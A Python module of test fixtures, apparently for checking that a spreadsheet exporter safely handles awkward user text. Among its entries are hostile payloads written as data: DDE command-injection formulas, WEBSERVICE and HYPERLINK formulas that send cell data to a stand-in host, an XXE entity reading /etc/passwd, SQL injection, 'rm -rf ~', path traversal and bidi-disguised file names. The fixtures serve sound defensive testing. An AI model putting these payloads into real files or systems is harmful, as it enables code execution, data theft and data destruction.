"""Texts that people type, paste or smuggle in, each named for what a spreadsheet, file or terminal may trip over."""

from dataclasses import dataclass

MOST_IN_XLSX = 32_767
"""UTF-16 code units that a cell of an .xlsx file holds."""
REPLACED = "\ufffd"
"""What stands in the place of a character that no file can hold."""


@dataclass(frozen=True, slots=True)
class Awkward:
    """One text and what is awkward about it."""

    id: str
    text: str

    @property
    def stored(self) -> str:
        """The text as it is read back: NUL and halves of surrogate pairs, which no store carries, are U+FFFD."""
        return "".join(REPLACED if letter == "\0" or "\ud800" <= letter <= "\udfff" else letter for letter in self.text)


def _odd(*pairs: tuple[str, str]) -> tuple[Awkward, ...]:
    return tuple(Awkward(name, text) for name, text in pairs)


FORMULAS = _odd(
    ("equals", "=1+1"),
    ("equals-alone", "="),
    ("plus", "+1+2 volunteers"),
    ("plus-name", "+Rosa"),
    ("minus", "-3-4"),
    ("minus-bullet", "- bring pens"),
    ("at", "@SUM(A1:A9)"),
    ("at-handle", "@riverside_clinic"),
    ("tab-first", "\t=1+1"),
    ("return-first", "\r=1+1"),
    ("newline-first", "\n=1+1"),
    ("blank-first", "  =1+1"),
    ("wide-equals", "\uff1d1+1"),
    ("program", "=cmd|'/C calc'!A0"),
    ("program-plus", "+cmd|'/C notepad'!_xlbgnm.A1"),
    ("program-minus", "-2+3+cmd|'/C calc'!A0"),
    ("program-at", "@SUM(1+1)*cmd|'/C calc'!A0"),
    ("dde-function", '=DDE("soffice";"/etc/hosts";"A1")'),
    ("hyperlink", '=HYPERLINK("https://collect.example/?d="&B2,"Open the minutes")'),
    ("import-xml", '=IMPORTXML("https://collect.example/"&C8,"//a")'),
    ("image", '=IMAGE("https://collect.example/pixel.png")'),
    ("web-service", '=WEBSERVICE("https://collect.example/?d="&C8)'),
    ("other-file", "='[budget.xlsx]Plan'!A1"),
    ("other-file-path", "='\\\\server\\share\\[budget.xlsx]Plan'!$A$1"),
    ("other-file-lo", "='file:///etc/passwd'#$Sheet1.A1"),
    ("array", "{=SUM(A1:A3)}"),
    ("apostrophe-formula", "'=1+1"),
)

LINKS = _odd(
    ("web-address", "https://collect.example/a?b=1&c=2#d"),
    ("script-address", "javascript:alert(1)"),
    ("internal-address", "internal:'Work Plan'!A1"),
    ("external-address", "external:..\\..\\other.xlsx#Sheet1!A1"),
    ("mail-address", "mailto:someone@collect.example?bcc=all@collect.example"),
    ("file-address", "file:///C:/Windows/System32/calc.exe"),
    ("unc-path", "\\\\collect.example\\share\\x.xlsx"),
    ("our-place", "#gid=0&range=A1"),
)

MARKUP = _odd(
    ("escape-lookalike", "_x000D_"),
    ("escape-of-escape", "_x005F_x000D_"),
    ("escape-letter", "a_x0041_b"),
    ("escape-nul", "_x0000_"),
    ("escape-half-pair", "_xD800_"),
    ("rich-text", "<r><t>shown without its tags</t></r>"),
    ("rich-text-broken", "<r>Rosa & Ben < 5</r>"),
    ("rich-text-open", "<r></si><si><t>one more text</t></r>"),
    ("cdata", "]]>"),
    ("cdata-open", "<![CDATA[ x ]]>"),
    ("comment", "<!-- hidden -->"),
    ("comment-open", "<!--"),
    ("entity", "&amp;"),
    ("entity-number", "&#65; &#x202e;"),
    ("entity-unknown", "&nbsp;&rosa;"),
    ("html", "<script>alert('x')</script><b onclick=x>"),
    ("doctype", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;"),
    ("xml-end", "</t></is></c></row></sheetData>"),
    ("markdown", "**bold** [click](https://collect.example) `x` # y"),
    ("console-markup", "[bold red]hello[/bold red] [/]"),
)

NOTATIONS = _odd(
    ("braces-word", "{detail}"),
    ("braces-value", "{value!r:>99} {column.__class__}"),
    ("braces-number", "{0} {} {{"),
    ("brace-open", "{"),
    ("percent-s", "%s %d %(x)s %"),
    ("dollar-brace", "${HOME} $(whoami) `id`"),
    ("json", '{"a": [1, null], "b": "\\u0041"}'),
    ("yaml", "- a: *b\n  c: !d |"),
    ("sql", "Robert'); DELETE FROM entries; --"),
    ("like", "100%_done"),
    ("shell", "; rm -rf ~ && echo | tee"),
    ("path-up", "../../../etc/passwd"),
    ("path-windows", "C:\\Temp\\CON"),
    ("backslash-end", "ends with \\"),
    ("csv", 'a,"b";c\td'),
    ("quotes", "“quoted” ‘single’ «other» \"plain\" 'plain'"),
    ("apostrophe-first", "'tis planned"),
    ("apostrophes", "''"),
    ("list-mark", " | "),
    ("list-marks", "Rosa | Ben|"),
)

CONTROLS = _odd(
    ("nul", "a\x00b"),
    ("bell", "\x07ring"),
    ("backspace", "passed\x08\x08\x08\x08\x08\x08failed"),
    ("clear-screen", "\x1b[2J\x1b[H"),
    ("red", "\x1b[31mred\x1b[0m"),
    ("window-title", "\x1b]0;owned\x07"),
    ("terminal-link", "\x1b]8;;https://collect.example\x1b\\here\x1b]8;;\x1b\\"),
    ("eight-bit-escape", "\x9b2J\x9d0;owned\x9c"),
    ("delete", "ab\x7f\x7fc"),
    ("every-control", "x" + "".join(map(chr, range(1, 32))) + "x"),
    ("every-high-control", "x" + "".join(map(chr, range(127, 160))) + "x"),
    ("separators", "a\x1cb\x1dc\x1ed\x1fe"),
    ("return", "one\rtwo"),
    ("return-newline", "one\r\ntwo"),
    ("newline", "one\ntwo\n\nthree"),
    ("return-in-place", "all is well\rERROR"),
    ("vertical-tab", "one\x0btwo\x0cthree"),
    ("next-line", "one\x85two"),
    ("line-separator", "one\u2028two\u2029three"),
    ("newline-last", "one\n"),
    ("non-character", "a\ufffeb\uffffc"),
    ("non-character-far", "\U0001fffe\U0010ffff"),
    ("byte-order-mark", "\ufeffbegins"),
    ("replacement", "caf\ufffd"),
    ("private-use", "\ue000\U000f0000"),
    ("tags", "flag\U000e0067\U000e007f"),
)

HALVES = (
    Awkward("high-half", "a\ud800b"),
    Awkward("low-half", "\udc00"),
    Awkward("halves-turned-round", "\udc00\ud800 x"),
)

SCRIPTS = _odd(
    ("override", "invoice\u202efdp.exe"),
    ("override-open", "\u202eall that follows"),
    ("embedding", "\u202bab\u202c \u202acd"),
    ("isolate-open", "\u2067x \u2066y"),
    ("marks", "\u200eleft\u200fright\u061c"),
    ("hebrew", "\u05e7\u05dc\u05d9\u05e0\u05d9\u05e7\u05d4 12 (a)"),
    ("arabic-digits", "\u0661\u0662/\u0664/\u0662\u0660\u0662\u0667"),
    ("devanagari-digits", "\u096b \u0926\u093f\u0928"),
    ("wide-digits", "\uff11\uff12"),
    ("superscript", "\u00b2 \u2460 \u2167 \u00bd"),
    ("zero-width", "a\u200bb\u200cc\u200dd\u2060e"),
    ("zero-width-alone", "\u200b"),
    ("soft-hyphen", "im\u00admu\u00adni\u00adza\u00adtion"),
    ("no-break", "\u00a0Rosa\u00a0Delgado\u00a0"),
    ("wide-blank", "\u3000Rosa\u2003Delgado\u3000"),
    ("blanks-around", "   three before, two after  "),
    ("tabs-around", "\tone\t"),
    ("emoji", "\U0001f469\U0001f3fd\u200d\u2695\ufe0f \U0001f1fa\U0001f1f8 \U0001f600"),
    ("emoji-alone", "\U0001f489"),
    ("combining", "Ste\u0301phane"),
    ("composed", "St\u00e9phane"),
    ("stack", "Z" + "\u0301\u0323" * 100),
    ("stack-first", "\u0301" * 200),
    ("dotless", "\u0130stanbul \u0131 \u00df \u1e9e \ufb01"),
    ("kelvin", "\u212aestrel \u017f"),
    ("lookalike", "\u0420\u043esa"),
)

VALUES = _odd(
    ("exponent", "1E5"),
    ("zeros-first", "007"),
    ("fraction", "1/2"),
    ("long-number", "12345678901234567890"),
    ("hexadecimal", "0x1F"),
    ("truth", "TRUE"),
    ("falsehood", "false"),
    ("reference-error", "#REF!"),
    ("na-error", "#N/A"),
    ("null", "NULL"),
    ("none", "None"),
    ("not-a-number", "nan"),
    ("infinite", "-inf"),
    ("date-like", "2027-04-31"),
    ("time-like", "25:61"),
    ("serial-like", "46448.0"),
    ("money", "$1,000.00"),
    ("percent", "50%"),
    ("dot", "."),
    ("dash", "\u2013"),
    ("question", "?"),
)

OURS = _odd(
    ("key-section", "§w6s1"),
    ("key-prompt", "w7qxtzm"),
    ("key-column", "w6c2"),
    ("key-example", "w6x1"),
    ("marker", "§1.w6.zsrwmtvg"),
    ("marker-attention", "§1.w00.zsrwmtvg"),
    ("our-heading", "Due Date"),
    ("our-headings", "Task Due Date Person Responsible Status"),
    ("our-title", "Work Plan Template"),
    ("our-example", "Example"),
    ("our-hint", "[number]"),
    ("our-flag", "OVERDUE"),
    ("our-tab", "Attention"),
    ("our-words", "Nothing needs attention in this workbook."),
    ("our-cut", "… [cut: too long for one cell]"),
)

LONG = (
    Awkward("word-of-1000", "immunize" * 125),
    Awkward("words-of-5000", "a, " * 1666),
    Awkward("brackets", "(" * 500 + ")" * 500),
    Awkward("digits", "1" * 1000),
    Awkward("full-cell", "=" + "x" * (MOST_IN_XLSX - 1)),
    Awkward("full-cell-of-pairs", "y" + "\U0001f489" * (MOST_IN_XLSX // 2)),
)
"""The last two fill a cell of an .xlsx file to its last code unit."""

TOO_LONG = Awkward("more-than-a-cell", "=" + "z" * MOST_IN_XLSX)
"""One letter more than a cell of an .xlsx file holds; Google Sheets holds it."""

AWKWARD = (
    *FORMULAS,
    *LINKS,
    *MARKUP,
    *NOTATIONS,
    *CONTROLS,
    *HALVES,
    *SCRIPTS,
    *VALUES,
    *OURS,
    *LONG,
)

TAB_TITLES = (
    "'=1+1'!A1",
    "=1+1",
    "x]y",
    "it's Rosa's #1",
    "'",
    "A1",
    "R1C1",
    "2027",
    "Work Plan!A1",
    "\u202eplan",
    "  two blanks  ",
    "a'b''c",
    "<r>x</r>",
    "50% & more",
    "€\U0001f489" * 10,
    "t" * 31,
)
"""What people call tabs; some of them only Google Sheets allows."""

NAMES = (
    "=cmd|'/C calc'!A0",
    "<r>Rosa & Ben</r>",
    "{detail} %s",
    "Rosa \u202eDelgado",
    "@riverside 'Ben' \"O\"",
    "+Clinic & Co <West>]]>",
    "-1 \U0001f469\U0001f3fd\u200d\u2695\ufe0f Clinic",
    "[bold]Library[/bold]",
    "\u05e7\u05dc\u05d9\u05e0\u05d9\u05e7\u05d4",
    "Ste\u0301phane _x000D_",
)
"""Names that a coalition file may hold: every one has a letter or a digit, and no control character."""
